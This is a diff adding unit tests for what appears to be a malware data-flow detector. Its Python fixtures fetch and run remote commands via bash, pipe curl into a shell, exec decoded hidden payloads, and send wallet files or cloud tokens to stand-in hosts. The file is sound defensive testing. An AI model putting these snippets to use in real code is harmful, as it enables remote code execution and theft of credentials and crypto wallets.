@@ -256,6 +256,35 @@ class DataFlowTest {
     }
 
     @Test
+    void theCommandAShellIsGivenInAListIsTheCommandRun() {
+      assertThat(
+              reached(
+                  "runs-fetched",
+                  lines(
+                      "import subprocess, requests",
+                      "order = requests.get('https://c2.example/o').text",
+                      "subprocess.run(['bash', '-c', order])")))
+          .contains(3);
+      assertThat(
+              reached(
+                  "runs-piped-download",
+                  lines(
+                      "import subprocess",
+                      "sh = find_shell()",
+                      "subprocess.call([sh, '-c', 'curl -s https://a.example/i | ' + sh])")))
+          .contains(3);
+      // the third element of any other list is an argument, not a command
+      assertThat(
+              reached(
+                  "runs-fetched",
+                  lines(
+                      "import subprocess, requests",
+                      "name = requests.get('https://idx.example/n').text",
+                      "subprocess.run(['tool', 'install', name])")))
+          .isEmpty();
+    }
+
+    @Test
     void aDownloadHandedToAProgramAsAFileIsNotTheProgram() {
       assertThat(
               reached(
@@ -282,6 +311,39 @@ class DataFlowTest {
               "audio = httpx.get(URL).content");
       assertThat(reached("runs-fetched", helper + "convert(audio, 16000)\n")).isEmpty();
       assertThat(reached("runs-fetched", helper + "run(program=audio)\n")).contains(9);
+    }
+
+    @Test
+    void everyStandardDecoderAndAnArraysBytesAreDecoding() {
+      assertThat(
+              reached(
+                  "exec-decoded-flow",
+                  lines(
+                      "import binascii",
+                      "src = b''.join(binascii.a2b_uu(row) for row in BLOCK.splitlines())",
+                      "exec(compile(src, '<c>', 'exec'))")))
+          .contains(3);
+      assertThat(
+              reached(
+                  "exec-decoded-flow",
+                  lines(
+                      "N = 2280694515592019842507430725691177",
+                      "exec(N.to_bytes(16, 'big').decode())")))
+          .contains(2);
+      assertThat(
+              reached(
+                  "exec-decoded-flow",
+                  lines(
+                      "import numpy as np",
+                      "tail = np.load(PATH)[-256:].astype(np.uint8).tobytes()",
+                      "exec(tail.decode('latin-1'))")))
+          .contains(3);
+      // bytes that are only stored or sent are data
+      assertThat(
+              reached(
+                  "exec-decoded-flow",
+                  lines("import numpy as np", "blob = np.zeros(8).tobytes()", "store.put(blob)")))
+          .isEmpty();
     }
 
     @Test
@@ -394,6 +456,30 @@ class DataFlowTest {
                       "print(settings)",
                       "requests.post('https://s.example/ping', data='up')")))
           .isEmpty(); // read and shown, never sent
+    }
+
+    @Test
+    void aFileSentBySendfileOrPostedByPycurlIsSent() {
+      assertThat(
+              reached(
+                  "sends-home-file",
+                  lines(
+                      "import os, socket",
+                      "path = os.path.expanduser('~/.config/Ledger Live/app.json')",
+                      "with socket.create_connection(('relay.example', 7070)) as s, open(path, 'rb') as f:",
+                      "    s.sendfile(f)")))
+          .contains(4);
+      assertThat(
+              reached(
+                  "sends-home-file",
+                  lines(
+                      "import os, pycurl",
+                      "with open(os.path.expanduser('~/.config/doctl/config.yaml')) as fh:",
+                      "    token = fh.read()",
+                      "c = pycurl.Curl()",
+                      "c.setopt(pycurl.POSTFIELDS, token)",
+                      "c.perform()")))
+          .contains(5);
     }
 
     @Test
